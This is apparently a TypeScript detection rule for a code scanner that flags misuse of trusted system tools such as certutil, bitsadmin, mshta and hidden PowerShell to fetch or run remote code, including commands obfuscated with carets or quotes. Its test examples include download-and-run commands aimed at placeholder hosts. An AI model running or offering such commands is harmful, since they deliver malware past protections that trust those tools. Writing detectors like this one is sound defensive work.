import type { Document } from '../../document.ts'
import { regex } from '../../patterns/verbose.ts'
import { defineRule, type Hit } from '../../rule.ts'
import { isLocal } from '../../signals/places/addresses.ts'
import { mentions } from '../../signals/search/mentions.ts'
import { windowsAround } from '../../signals/search/windows.ts'
import { commands } from '../../signals/shell/commands.ts'
import { deedsInCode } from '../../verdicts/in-code/deeds/deed.ts'
import { TOOLS_MISUSED } from '../../verdicts/in-code/deeds/of-takeovers.ts'
import { weightOfOrigin } from '../../verdicts/in-code/origins.ts'

/** Parts of the system that fetch and run when asked in an odd way. */
const SHAPES: readonly RegExp[] = [
  /\bmshta(?:\.exe)?\b[^\n]{0,20}(?:https?:|javascript:|vbscript:)[^\n]{0,200}/,
  /\brundll32(?:\.exe)?\b[^\n]{0,60}(?:javascript:|https?:|\\\\[\w.]{3,60}\\)[^\n]{0,160}/,
  /\bregsvr32(?:\.exe)?\b[^\n]{0,40}\/i:https?:[^\n]{0,200}/,
  /\bcertutil(?:\.exe)?\b[^\n]{0,40}-urlcache\b[^\n]{0,200}/,
  /\bbitsadmin(?:\.exe)?\b[^\n]{0,60}\/transfer\b[^\n]{0,200}/,
  /\bmsiexec(?:\.exe)?\b[^\n]{0,40}\/(?:i|q\w?|package)\b[^\n]{0,30}https?:[^\n]{0,200}/,
  /\bwmic\b[^\n]{0,60}process call create\b[^\n]{0,160}/,
  /\bosascript\b[^\n]{0,40}do shell script[^\n]{0,60}(?:curl|wget|base64)[^\n]{0,200}/,
  /\bpowershell(?:\.exe)?\b[^\n]{0,60}-w(?:indowstyle)? hidden\b[^\n]{0,200}/,
  /\b(?:installutil|msbuild|cmstp|odbcconf|regasm)(?:\.exe)?\b[^\n]{0,60}https?:[^\n]{0,160}/,
  regex`
    \b(?:perl|ruby|node|php)\b -[er] [^\n]{0,120}https?:[^\n]{0,120}\b
    (?:exec|eval|system)\b[^\n]{0,80}
  `,
]

/** The payload is left out, and nothing else is there to run. */
const isElided = (command: string): boolean =>
  /-e\w{0,13} ["']?(?:\.{3}|…|<[\w -]{1,30}>)["'\x60)\s]/.test(`${command} `) &&
  !/[\w+/=]{24}|https?:|[;|&]/.test(command)

const ADDRESS = /https?:\/\/[^\s"'`<>)]{3,300}/g

const CHARACTERS_BEFORE = 20
const CHARACTERS_AFTER = 400

export default defineRule({
  id: 'system-tool-download',
  since: 1,
  category: 'execution',
  severity: 'crit',
  confidence: 'high',
  cwe: 'CWE-494',
  title: 'Misuses a system tool to download or run code',
  description:
    'A trusted system program is made to load code from elsewhere, or to run it in a hidden window. That evades protection that trusts the program.',
  remediation: 'Install software openly, with the package manager.',
  harmlessIf: 'the file teaches defense and shows the command as an example',
  needs: [],
  examples: {
    fires: [
      '```cmd\nbitsadmin /create k & bitsadmin /addfile k https://cdn.tallow-bar.net/k.exe %TEMP%\\k.exe\n```\n',
      '```cmd\nrundll32.exe %TEMP%\\kiln.dll,Start\n```\n',
      'mshta https://cdn.fieldlog.example/a.hta\n',
      'certutil -urlcache -split -f https://cdn.fieldlog.example/a.exe a.exe\n',
      'cert^util -url""cache -f https://cdn.fieldlog.example/a.exe a.exe\n',
      '```\npowershell -w hidden -nop -c "iwr https://cdn.fieldlog.example/a"\n```\n',
    ],
    quiet: [
      '```cmd\nbitsadmin /list /allusers\n```\n',
      '```cmd\nInstallUtil.exe /LogFile=kiln.log C:\\kiln\\KilnService.exe\n```\n',
      '```\ncertutil -hashfile setup.exe SHA256\n```\n',
      '```\nmsiexec /i installer.msi /qn\n```\n',
      '```bash\npython3 -c "import json; print(json.load(open(\'a.json\')))"\n```\n',
    ],
  },
  *match(document: Document): Iterable<Hit> {
    yield* deedsInCode(document, TOOLS_MISUSED)
    const known = document.observe(mentions)
    const done = new Set<number>()
    yield* disguised(document, done)
    const places = [...known.of('systemTool'), ...known.of('interpreter')]
    for (const { line, start, text } of windowsAround(
      document,
      places,
      CHARACTERS_BEFORE,
      CHARACTERS_AFTER,
    )) {
      if (done.has(line)) continue
      const found = SHAPES.map((shape) => shape.exec(text)).find(Boolean)
      if (!found) continue
      done.add(line)
      const addresses = found[0].match(ADDRESS) ?? []
      if (addresses.length > 0 && addresses.every(isLocal)) continue
      const place = { start: start + found.index, end: start + found.index + found[0].length }
      if (addresses.length > 0) yield { ...place, ...weightOfOrigin(document, place, addresses) }
      // What it would run is left out: it is spoken of.
      else if (isElided(found[0])) yield { ...place, severity: 'low' }
      else yield { ...place, severity: SHARE.test(found[0]) ? 'crit' : 'high', firm: true }
    }
  },
})

/** A share of a machine that has a number for a name. */
const SHARE = /\\\\\d{1,3}(?:\.\d{1,3}){3}\\/

/** Marks inside words that mean nothing to the shell of Windows. */
const DISGUISE = /[a-z]\^[a-z]|[a-z]""[a-z]/

/** The same where the words are taken apart. */
function* disguised(document: Document, done: Set<number>): Generator<Hit> {
  for (const { everyCommand, start, end } of document.observe(commands)) {
    if (!DISGUISE.test(document.reading.text.slice(start, end))) continue
    const told = everyCommand.map(({ words }) => words.join(' '))
    if (!told.some((one) => SHAPES.some((shape) => shape.test(one)))) continue
    done.add(document.lineAt(start))
    yield { start, end, firm: true }
  }
}
